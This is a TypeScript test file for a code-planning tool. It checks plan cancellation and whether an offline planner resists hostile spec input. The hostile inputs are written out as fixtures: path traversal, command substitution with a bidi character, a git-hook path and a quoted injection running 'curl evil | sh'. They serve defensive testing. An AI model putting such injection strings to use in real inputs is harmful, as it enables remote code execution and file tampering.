import { Socket } from 'node:net';
import { createLiteralPlanner } from '../../../src/core/plan/literal/literalPlanner';
import { createModelPlanner } from '../../../src/core/plan/model/modelPlanner';
import { planSpec } from '../../../src/core/plan/planSpec';
import { loadPlan } from '../../../src/core/plan/planStore';
import { hostileCase } from '../../support/hostile/hostileCase';
import type { SaidMessage } from '../../support/standIn/messagesApi';
import type { Reply } from '../../support/standIn/startStandIn';
import { cancellable } from '../planners/conversations';
import { type Driver, drivers } from '../planners/drivers';
import { memoryHost, neverCancelled } from '../support/memoryHost';
import { changedBetween, inRoot, specPath } from './support/hostileRoot';

const whole = (driver: Driver, message: SaidMessage): Reply => ({ kind: 'stream', frames: driver.frames(message) });

/** Answers that make one file. */
const making = (path: string): readonly SaidMessage[] => [
	{ calls: [{ id: 'c1', name: 'create_file', input: { path, text: `${path}\n` } }] },
	{
		calls: [
			{
				...{ id: 'c2', name: 'finish' },
				input: {
					...{ summary: 'Made.', edits: [{ path, reason: 'Asked for.', requirements: [] }], edit_count: 1 },
					...{ verify: [], assumptions: [], unresolved: [] },
				},
			},
		],
	},
];

describe('planning in hostile company', () => {
	for (const driver of drivers) {
		hostileCase('model-18', `of two plans by ${driver.name} keeps the second alone once the first is stopped`, () =>
			inRoot(async root => {
				const slow = await driver.start(
					making('first.txt').map(said => ({ ...whole(driver, said), pauseMs: 30 }) as Reply),
				);
				const quick = await driver.start(making('second.txt').map(said => whole(driver, said)));
				const before = root.snapshot();
				const token = cancellable();
				const first = planSpec(root.host, specPath, { planner: createModelPlanner(driver.create(slow.origin)) }, token);
				while (slow.requests.length === 0) {
					await new Promise(resolve => setTimeout(resolve, 5));
				}
				token.cancel();
				const planner = createModelPlanner(driver.create(quick.origin));
				const [stopped, second] = await Promise.all([
					first,
					planSpec(root.host, specPath, { planner }, neverCancelled),
				]);
				await slow.requests[0]?.over;
				await Promise.all([slow.close(), quick.close()]);
				return {
					seen: {
						first: stopped.kind,
						second: second.kind === 'planned' ? second.plan.edits.map(({ path }) => path) : second.kind,
						saved: await loadPlan(root.host, specPath),
						changed: changedBetween(before, root.snapshot()),
					},
					promised: { first: 'cancelled', second: ['second.txt'], saved: undefined, changed: [] },
				};
			}),
		);
	}

	hostileCase(
		'model-22',
		'of the offline planner gives the same bytes a thousand times, edits nothing that is not its own, and asks no network',
		async () => {
			const old = [
				'The settings MUST lie at `conf/app.ini`',
				'The script MUST print `Hello`',
				'The hook MUST lie at `hooks/pre-commit`',
				'The image MUST be `python:3.11`',
			];
			const hostile = [
				'The settings MUST lie at `../../etc/app.ini`',
				'The script MUST print `$(touch evil)\u202e`',
				'The hook MUST lie at `.git/hooks/pre-commit`',
				'The image MUST be `python:3.12"; curl evil | sh; "`',
			];
			const specOf = (lines: readonly string[]) =>
				`# Spec\n\n## Behavior\n\n${lines.map(line => `- ${line}\n`).join('')}`;
			const files = {
				'src/app.sh': 'cat conf/app.ini\necho "Hello"\n',
				'conf/app.ini': 'hook = hooks/pre-commit\n',
				Dockerfile: 'FROM python:3.11\n',
				'.git/hooks/pre-commit': 'Hello\n',
				'.openspec/apply.md': '## Cycle 1 — 2026-06-08\n\nStatus: APPLIED\n',
			};
			const committed = { ...files, [specPath]: specOf(old) };
			let connections = 0;
			const { connect } = Socket.prototype;
			Reflect.set(Socket.prototype, 'connect', function (this: Socket, ...args: unknown[]) {
				connections++;
				return Reflect.apply(connect, this, args);
			});
			try {
				const texts = new Set<string>();
				let paths: readonly string[] = [];
				for (let time = 0; time < 1000; time++) {
					const host = memoryHost({
						files: { ...files, [specPath]: specOf(hostile) },
						commits: [{ hash: 'c'.repeat(40), files: committed }],
					});
					const outcome = await planSpec(host, specPath, { planner: createLiteralPlanner() }, neverCancelled);
					texts.add(JSON.stringify(outcome.kind === 'planned' ? outcome.plan : outcome));
					paths = outcome.kind === 'planned' ? outcome.plan.edits.map(({ path }) => path) : [outcome.kind];
				}
				const own = new Set(['src/app.sh', 'conf/app.ini', 'Dockerfile']);
				return {
					seen: {
						kinds: texts.size,
						foreign: paths.filter(path => !own.has(path)),
						edits: paths.length > 0,
						connections,
					},
					promised: { kinds: 1, foreign: [], edits: true, connections: 0 },
				};
			} finally {
				Socket.prototype.connect = connect;
			}
		},
	);
});
